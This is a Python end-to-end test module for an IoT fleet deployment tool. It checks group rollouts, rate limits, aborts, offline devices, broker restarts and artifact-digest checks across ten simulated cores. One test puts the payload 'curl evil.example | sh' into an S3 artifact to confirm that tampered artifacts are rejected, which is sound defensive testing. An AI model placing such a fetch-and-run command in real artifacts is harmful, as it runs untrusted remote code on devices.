"""Fleets for real: ten real cores, each on its own root, a real Mosquitto, a real S3 endpoint
(moto's server), and the operator's real ``sprig fleet`` commands.

One fleet serves the whole module (starting ten cores is the expensive part); each test uses
thing groups of its own, so what one test deploys never decides another's outcome:

    dev00 all rate ux uy        dev05 all abort resume
    dev01 all rate ux digest    dev06 all abort resume
    dev02 all rate digest       dev07 all abort late
    dev03 all rate restart      dev08 all abort late
    dev04 all rate restart      dev09 all abort resume join

(dev10 joins ``join`` later, in the last test.)

The cores watch a newly started Run process for 0.5 s, not the default 3 s
(``deploymentStabilitySeconds``, tested with the deployment service): what is tested here is the
fleet's protocol, and each deployment of a generic component would otherwise wait 3 s on every
device, a third of this module's time.
"""

from __future__ import annotations

import itertools
import json
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sprig._tests.reliability.support import function_component, generic_component, invoke
from sprig.testing import CoreProcess, write_recipe
from sprig.testing.fleet import (
    AWS_ENV,
    BUCKET,
    Fleet,
    ThreadBroker,
    Watcher,
    moto,
    start_all,
)

pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.timeout(600)]

if shutil.which("mosquitto") is None:
    pytest.skip("the mosquitto broker is not installed (Debian package mosquitto)",
                allow_module_level=True)

GROUPS = {
    "dev00": ["all", "rate", "ux", "uy"], "dev01": ["all", "rate", "ux", "digest"],
    "dev02": ["all", "rate", "digest"], "dev03": ["all", "rate", "restart"],
    "dev04": ["all", "rate", "restart"], "dev05": ["all", "abort", "resume"],
    "dev06": ["all", "abort", "resume"], "dev07": ["all", "abort", "late"],
    "dev08": ["all", "abort", "late"], "dev09": ["all", "abort", "resume", "join"],
}
STABILITY_S = 0.5
HANDLER = ("import os\n"
           "def handler(event, context):\n"
           "    return {'thing': os.environ.get('AWS_IOT_THING_NAME'), 'echo': event}\n")


def members(group: str) -> list[str]:
    return sorted(t for t, gs in GROUPS.items() if group in gs)


def _components(work: Path) -> tuple[Path, Path]:
    """Every component the module deploys: a Lambda function, generic components, a broken
    one and one whose artifact the test tampers with after publishing."""
    out = work / "pkg"
    function_component(out, "FleetEcho", HANDLER, pinned="false")
    recipes, artifacts = out / "recipes", out / "artifacts"
    for name in ("A", "B", "C", "Paced"):
        generic_component(recipes, f"com.example.{name}", "1.0.0", marker=f"fleet-{name}")
    generic_component(recipes, "com.example.Paced", "2.0.0", marker="fleet-paced2")
    generic_component(recipes, "com.example.A", "2.0.0", marker="fleet-a2")
    generic_component(recipes, "com.example.Broken", "1.0.0", marker="fleet-broken",
                      broken=True)
    tampered = artifacts / "com.example.Tampered" / "1.0.0"
    tampered.mkdir(parents=True)
    (tampered / "run.sh").write_text("exec sleep 600\n")
    write_recipe(recipes, {
        "RecipeFormatVersion": "2020-01-25", "ComponentName": "com.example.Tampered",
        "ComponentVersion": "1.0.0",
        "Manifests": [{"Platform": {"os": "linux"}, "Lifecycle": {
            "Run": "sh {artifacts:path}/run.sh"}, "Artifacts": [{"URI": "greengrass:run.sh"}]}]})
    return recipes, artifacts


@pytest.fixture(scope="module")
def fleet() -> Iterator[Fleet]:
    from sprig._tests.reliability.support import public_dir

    with public_dir("sprig-fleet-") as base:
        broker = ThreadBroker(base / "broker").start()
        try:
            with moto(base) as s3:
                f = Fleet(base, broker.port, s3.url)
                f.broker = broker              # type: ignore[attr-defined]
                f.s3 = s3                      # type: ignore[attr-defined]
                for thing, groups in GROUPS.items():
                    f.add(thing, groups, start=False, deploymentStabilitySeconds=STABILITY_S)
                try:            # cores that started are stopped even if the others did not
                    start_all(list(f.cores.values()))
                    recipes, artifacts = _components(base)
                    published = f.sprig("publish", "--recipe-dir", str(recipes),
                                        "--artifact-dir", str(artifacts))
                    assert published.returncode == 0, published.stderr
                    yield f
                finally:
                    f.stop_all()
        finally:
            broker.close()


def deploy(fleet: Fleet, group: str, *args: str, timeout_s: float = 300,
           ) -> subprocess.CompletedProcess[str]:
    return fleet.sprig("deploy", "--group", group, *args, timeout_s=timeout_s)


def status(fleet: Fleet) -> dict[str, Any]:
    r = fleet.sprig("status", "--json")
    assert r.returncode == 0, r.stderr
    result: dict[str, Any] = json.loads(r.stdout)
    return result


def device(fleet: Fleet, thing: str) -> dict[str, Any]:
    return next(d for d in status(fleet)["devices"] if d["thing"] == thing)


def execution(fleet: Fleet, thing: str, group: str) -> dict[str, Any]:
    ex: dict[str, Any] = (device(fleet, thing)["executions"].get(f"thinggroup/{group}") or {}
                          ).get("status") or {}
    return ex


def versions(core: CoreProcess) -> dict[str, str]:
    return {c["name"]: c["version"] for c in core.call("component.list")}


def wait_execution(fleet: Fleet, thing: str, group: str, job: str, *statuses: str,
                   timeout_s: float = 120) -> dict[str, Any]:
    """Wait (on the broker's messages) until a device reports one of ``statuses``."""
    topic = f"sprig/things/{thing}/jobs/thinggroup/{group}/update"
    w = Watcher(fleet.broker_port, topic)
    try:
        def done(msgs: list[Any]) -> bool:
            mine = [json.loads(m.payload) for m in msgs if m.topic == topic and m.payload]
            return any(m.get("jobId") == job and m.get("status") in statuses for m in mine)
        assert w.wait(done, timeout_s), f"{thing} did not report {statuses} for {job}"
    finally:
        w.close()
    return execution(fleet, thing, group)


def deployment_id(fleet: Fleet, group: str) -> str:
    return str(status(fleet)["targets"][f"thinggroup/{group}"]["deploymentId"])


# -- tests ---------------------------------------------------------------------------------------

def test_a_function_deployed_to_a_group_converges_on_every_device(fleet: Fleet) -> None:
    watcher = Watcher(fleet.broker_port, "sprig/#")
    try:
        started = time.monotonic()
        r = deploy(fleet, "all", "--merge", "FleetEcho=1.0.0", "--wait")
        elapsed = time.monotonic() - started
        assert r.returncode == 0, r.stdout + r.stderr
        assert "COMPLETED: 10 succeeded, 0 failed, 0 offline" in r.stdout, r.stdout
        for thing, core in fleet.cores.items():
            assert versions(core)["FleetEcho"] == "1.0.0"
            result = invoke(core, "FleetEcho", {"n": 1})
            assert result["payload"] == {"thing": thing, "echo": {"n": 1}}, result
        # Broker messages per device for this deployment: what each device received and sent.
        counts = {t: len([m for m in watcher.live() if m.topic in (
            f"sprig/things/{t}/jobs/thinggroup/all/notify",
            f"sprig/things/{t}/jobs/thinggroup/all/update",
            f"sprig/things/{t}/greengrassv2/health/json")]) for t in fleet.cores}
        assert all(c <= 10 for c in counts.values()), counts
        print(f"\n10 devices converged in {elapsed:.2f} s (operator command), broker messages "
              f"per device: {sorted(counts.values())}")
    finally:
        watcher.close()
    text = fleet.sprig("status", "--group", "all")
    assert text.returncode == 0
    lines = [line for line in text.stdout.splitlines() if line.startswith("dev")]
    assert len(lines) == 10 and all(" yes " in line and "HEALTHY" in line
                                    and "SUCCEEDED" in line for line in lines), text.stdout


def test_a_device_runs_the_union_of_its_groups_and_a_conflict_names_both(
        fleet: Fleet) -> None:
    assert deploy(fleet, "ux", "--merge", "com.example.A=1.0.0",
                  "--merge", "com.example.B=1.0.0", "--wait").returncode == 0
    assert deploy(fleet, "uy", "--merge", "com.example.B=1.0.0",
                  "--merge", "com.example.C=1.0.0", "--wait").returncode == 0
    both, one = fleet.cores["dev00"], fleet.cores["dev01"]
    assert {"com.example.A", "com.example.B", "com.example.C"} <= set(versions(both))
    assert "com.example.C" not in versions(one)
    # uy wants A 1.0.0 too; then ux moves to A 2.0.0: dev00 cannot run both, dev01 can.
    assert deploy(fleet, "uy", "--merge", "com.example.A=1.0.0", "--wait").returncode == 0
    r = deploy(fleet, "ux", "--merge", "com.example.A=2.0.0", "--wait")
    assert r.returncode == 1
    ex = execution(fleet, "dev00", "ux")
    assert ex["status"] == "FAILED"
    cause = ex["statusDetails"]["deployment-failure-cause"]
    assert "thinggroup/ux" in cause and "thinggroup/uy" in cause and "com.example.A" in cause
    assert ex["statusDetails"]["detailed-deployment-status"] == "FAILED_NO_STATE_CHANGE"
    assert "COMPONENT_VERSION_REQUIREMENTS_NOT_MET" in ex["statusDetails"][
        "deployment-error-stack"]
    assert versions(both)["com.example.A"] == "1.0.0"          # nothing changed on dev00
    assert versions(one)["com.example.A"] == "2.0.0"           # dev01 is only in ux
    # Removing B from ux keeps it on dev00 (uy still wants it) and removes it from dev01.
    assert deploy(fleet, "uy", "--remove", "com.example.A", "--wait").returncode == 0
    assert deploy(fleet, "ux", "--remove", "com.example.B", "--wait").returncode == 0
    assert "com.example.B" in versions(both), versions(both)
    assert "com.example.B" not in versions(one), versions(one)


def test_the_rollout_rate_is_respected(fleet: Fleet) -> None:
    watcher = Watcher(fleet.broker_port, "sprig/things/+/jobs/thinggroup/rate/notify")
    try:
        r = deploy(fleet, "rate", "--merge", "com.example.Paced=1.0.0", "--rate", "60/min",
                   "--wait")
        assert r.returncode == 0, r.stdout + r.stderr
        notes = [m.at for m in watcher.live("/notify")]
    finally:
        watcher.close()
    assert len(notes) == 5
    gaps = [b - a for a, b in itertools.pairwise(notes)]
    # 60/min: one thing a second, never faster (a little slack for the broker's delivery).
    assert min(gaps) >= 0.9, gaps
    assert notes[-1] - notes[0] < 4 * 1.5, gaps


def test_abort_at_the_threshold_leaves_the_other_devices_untouched(fleet: Fleet) -> None:
    before = {t: versions(fleet.cores[t]) for t in members("abort")}
    r = deploy(fleet, "abort", "--merge", "com.example.Broken=1.0.0", "--rate", "20/min",
               "--abort-after-failures", "50%", "--min-executed", "1", "--wait")
    assert r.returncode == 1
    assert "ABORTED" in r.stdout, r.stdout
    st = status(fleet)
    assert st["targets"]["thinggroup/abort"]["status"] == "ABORTED"
    job = st["targets"]["thinggroup/abort"]["deploymentId"]
    touched = []
    for thing in members("abort"):
        d = next(x for x in st["devices"] if x["thing"] == thing)
        ex = d["executions"].get("thinggroup/abort") or {}
        mine = (ex.get("status") or {}).get("jobId") == job
        notified = (ex.get("notified") or {}).get("jobId") == job
        if mine:
            touched.append(thing)
            done = wait_execution(fleet, thing, "abort", job, "FAILED")
            assert done["statusDetails"]["detailed-deployment-status"] == \
                "FAILED_ROLLBACK_COMPLETE"
            assert "BROKEN" in done["statusDetails"]["deployment-failure-cause"]
        elif notified:
            assert ex["notified"]["status"] == "CANCELED"
        # Every device is as it was: rolled back, canceled before it started, or never told.
        assert versions(fleet.cores[thing]) == before[thing], thing
    assert 1 <= len(touched) <= 2, (touched, r.stdout)      # the threshold, not the group


def test_a_device_offline_during_the_rollout_converges_when_it_returns(
        fleet: Fleet) -> None:
    away = fleet.cores["dev08"]
    away.stop()
    try:
        r = deploy(fleet, "late", "--merge", "com.example.Paced=1.0.0", "--wait")
        assert r.returncode == 0, r.stdout + r.stderr
        assert "1 succeeded, 0 failed, 1 offline" in r.stdout, r.stdout
        assert not device(fleet, "dev08")["online"]
    finally:
        away.start(timeout_s=120)
    job = deployment_id(fleet, "late")
    ex = wait_execution(fleet, "dev08", "late", job, "SUCCEEDED")
    assert ex["jobId"] == job
    assert versions(away)["com.example.Paced"] == "1.0.0"


def test_the_rollout_survives_a_broker_restart(fleet: Fleet) -> None:
    broker: ThreadBroker = fleet.broker  # type: ignore[attr-defined]
    watcher = Watcher(fleet.broker_port, "sprig/things/+/jobs/thinggroup/restart/notify")
    proc = subprocess.Popen(
        [sys.executable, "-m", "sprig", "fleet", "deploy", "--config",
         str(fleet.operator_config()), "--group", "restart", "--merge",
         "com.example.B=1.0.0", "--rate", "30/min", "--wait"],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env={**AWS_ENV,
                                                                        **_env()})
    try:
        assert watcher.wait(lambda ms: any("/notify" in m.topic and not m.retained
                                           for m in ms), 60)
    finally:
        watcher.close()
    broker.restart()                       # the first device is notified, the second not yet
    out, _ = proc.communicate(timeout=180)
    assert proc.returncode == 0, out
    assert "reconnected" in out and "COMPLETED: 2 succeeded" in out, out
    for thing in members("restart"):
        assert versions(fleet.cores[thing])["com.example.B"] == "1.0.0"


def test_the_operator_command_killed_mid_rollout_resumes_where_it_stopped(
        fleet: Fleet) -> None:
    watcher = Watcher(fleet.broker_port, "sprig/things/+/jobs/thinggroup/resume/notify")
    args = ["deploy", "--group", "resume", "--merge", "com.example.Paced=2.0.0",
            "--rate", "20/min", "--wait"]
    proc = subprocess.Popen(
        [sys.executable, "-m", "sprig", "fleet", args[0], "--config",
         str(fleet.operator_config()), *args[1:]],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=_env())
    try:
        assert watcher.wait(lambda ms: len([m for m in ms if not m.retained]) >= 1, 60)
        proc.send_signal(signal.SIGKILL)
        proc.wait(30)
        first = deployment_id(fleet, "resume")
        assert status(fleet)["targets"]["thinggroup/resume"]["status"] == "IN_PROGRESS"
        # Its lease was released by its connection's last will: the re-run starts at once.
        r = fleet.sprig(*args)
        assert r.returncode == 0, r.stdout + r.stderr
        assert f"resuming deployment {first}" in r.stdout, r.stdout
        assert "COMPLETED: 3 succeeded" in r.stdout, r.stdout
        notes = watcher.live("/notify")
    finally:
        watcher.close()
    # Each device was told once, with the same deployment: the resumed command did not
    # notify again the one the killed command had notified.
    assert sorted(m.topic for m in notes) == sorted(
        f"sprig/things/{t}/jobs/thinggroup/resume/notify" for t in members("resume"))
    assert {json.loads(m.payload)["execution"]["jobId"] for m in notes} == {first}


def test_a_second_operator_is_refused_while_a_rollout_runs(fleet: Fleet) -> None:
    watcher = Watcher(fleet.broker_port, "sprig/targets/thinggroup/resume/lease")
    proc = subprocess.Popen(
        [sys.executable, "-m", "sprig", "fleet", "deploy", "--config",
         str(fleet.operator_config()), "--group", "resume", "--merge",
         "com.example.Paced=1.0.0", "--rate", "1/min", "--wait"],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=_env())
    try:
        assert watcher.wait(lambda ms: any(b'"HELD"' in m.payload and not m.retained
                                           for m in ms), 60)
        other = deploy(fleet, "resume", "--merge", "com.example.Paced=2.0.0")
        assert other.returncode == 1
        assert "is being run by" in other.stderr and "pid" in other.stderr, other.stderr
        cancel = fleet.sprig("cancel", "--group", "resume")
        assert cancel.returncode == 0, cancel.stderr
        assert "CANCELED" in cancel.stdout
        out, _ = proc.communicate(timeout=60)
        assert proc.returncode == 1 and "took over" in out, out
    finally:
        watcher.close()
        if proc.poll() is None:
            proc.kill()
    assert status(fleet)["targets"]["thinggroup/resume"]["status"] == "CANCELED"


def test_a_bad_artifact_digest_fails_only_that_deployment(fleet: Fleet) -> None:
    s3 = fleet.s3.client()  # type: ignore[attr-defined]
    recipe = json.loads(s3.get_object(Bucket=BUCKET, Key="store/recipes/com.example.Tampered/"
                                      "1.0.0.json")["Body"].read())
    uri = recipe["Manifests"][0]["Artifacts"][0]["URI"]
    key = uri.removeprefix(f"s3://{BUCKET}/")
    s3.put_object(Bucket=BUCKET, Key=key, Body=b"curl evil.example | sh\n")
    before = {t: versions(fleet.cores[t]) for t in members("digest")}
    r = deploy(fleet, "digest", "--merge", "com.example.Tampered=1.0.0", "--wait")
    assert r.returncode == 1
    for thing in members("digest"):
        ex = execution(fleet, thing, "digest")
        assert ex["status"] == "FAILED"
        d = ex["statusDetails"]
        assert d["detailed-deployment-status"] == "FAILED_NO_STATE_CHANGE"
        assert d["deployment-error-stack"] == ["DEPLOYMENT_FAILURE", "ARTIFACT_CHECKSUM_MISMATCH"]
        assert d["deployment-error-types"] == ["COMPONENT_RECIPE_ERROR"]
        assert "does not match its digest" in d["deployment-failure-cause"]
        assert versions(fleet.cores[thing]) == before[thing]
        staged = fleet.cores[thing].layout.artifact_dir("com.example.Tampered", "1.0.0")
        assert not staged.exists()
    # The devices are fine: the next deployment to the same group succeeds.
    ok = deploy(fleet, "digest", "--remove", "com.example.Tampered", "--merge",
                "com.example.C=1.0.0", "--wait")
    assert ok.returncode == 0, ok.stdout + ok.stderr


def test_an_older_deployment_is_rejected_and_local_deployments_still_work(
        fleet: Fleet) -> None:
    import paho.mqtt.client as paho
    from paho.mqtt.enums import CallbackAPIVersion

    core = fleet.cores["dev07"]
    st = status(fleet)
    current = st["targets"]["thinggroup/late"]
    # Replay an older document for the group (creationTimestamp 1) straight to the device.
    doc = {"deploymentId": "stale-1", "creationTimestamp": 1,
           "configurationArn": "arn:aws:greengrass:us-east-1:000000000000:configuration:"
                               "thinggroup/late:1",
           "components": {"com.example.C": {"version": "1.0.0"}}}
    watcher = Watcher(fleet.broker_port, "sprig/things/dev07/jobs/thinggroup/late/update")
    client = paho.Client(CallbackAPIVersion.VERSION2, client_id="replayer")
    client.connect("127.0.0.1", fleet.broker_port)
    client.loop_start()
    try:
        client.publish("sprig/things/dev07/jobs/thinggroup/late/notify", json.dumps(
            {"execution": {"jobId": "stale-1", "status": "QUEUED", "jobDocument": doc}}),
            qos=1).wait_for_publish(10)
        assert watcher.wait(lambda ms: any(b'"stale-1"' in m.payload for m in ms), 60)
        msg = next(json.loads(m.payload) for m in watcher.messages if b"stale-1" in m.payload)
    finally:
        client.loop_stop()
        client.disconnect()
        watcher.close()
    assert msg["status"] == "REJECTED"
    assert msg["statusDetails"]["detailed-deployment-status"] == "REJECTED"
    assert msg["statusDetails"]["deployment-error-stack"] == ["DEPLOYMENT_REJECTED",
                                                              "REJECTED_STALE_DEPLOYMENT"]
    assert "com.example.C" not in versions(core)
    # The retained status is still the newer deployment's.
    assert execution(fleet, "dev07", "late")["jobId"] == current["deploymentId"]
    # A local deployment beside the fleet's: it adds a root, the fleet's stay.
    result = core.deploy(merge={"com.example.C": "1.0.0"},
                         recipe_dir=fleet.base / "pkg" / "recipes",
                         artifact_dir=fleet.base / "pkg" / "artifacts")
    assert result["status"] == "SUCCEEDED", result
    assert {"com.example.C", "com.example.Paced", "FleetEcho"} <= set(versions(core))


def test_a_device_that_joins_a_group_later_gets_its_completed_deployment(
        fleet: Fleet) -> None:
    """Greengrass's thing-group deployments are continuous: a device added to the group later
    gets the group's deployment. Devices only take executions addressed to them, so the
    operator's command, run again, notifies the devices that joined since (and no one else)."""
    args = ("--merge", "com.example.A=1.0.0", "--wait")
    first = deploy(fleet, "join", *args)
    assert first.returncode == 0, first.stdout + first.stderr
    assert "COMPLETED: 1 succeeded, 0 failed, 0 offline" in first.stdout, first.stdout
    job = deployment_id(fleet, "join")
    health = "sprig/things/dev10/greengrassv2/health/json"
    announced = Watcher(fleet.broker_port, health)
    notes = Watcher(fleet.broker_port, "sprig/things/+/jobs/thinggroup/join/notify")
    newcomer = fleet.add("dev10", ["join"], deploymentStabilitySeconds=STABILITY_S)
    try:
        assert announced.wait(lambda ms: any(m.topic == health for m in ms), 60)
        assert "com.example.A" not in versions(newcomer)
        again = deploy(fleet, "join", *args)
        assert again.returncode == 0, again.stdout + again.stderr
        assert f"deployment {job} again, for the devices that joined since" in again.stdout, \
            again.stdout
        assert "COMPLETED: 2 succeeded, 0 failed, 0 offline" in again.stdout, again.stdout
        assert versions(newcomer)["com.example.A"] == "1.0.0"
        assert execution(fleet, "dev10", "join")["jobId"] == job
        # Only the newcomer was notified, with the same deployment.
        told = notes.live("/notify")
        assert [m.topic for m in told] == ["sprig/things/dev10/jobs/thinggroup/join/notify"]
        assert json.loads(told[0].payload)["execution"]["jobId"] == job
        # Nobody new: the command says so and changes nothing.
        third = deploy(fleet, "join", *args)
        assert third.returncode == 0, third.stdout + third.stderr
        assert f"deployment {job} is already COMPLETED" in third.stdout, third.stdout
        assert len(notes.live("/notify")) == 1
    finally:
        announced.close()
        notes.close()
        newcomer.stop()
        del fleet.cores["dev10"]


def _env() -> dict[str, str]:
    import os

    return {**os.environ, **AWS_ENV}
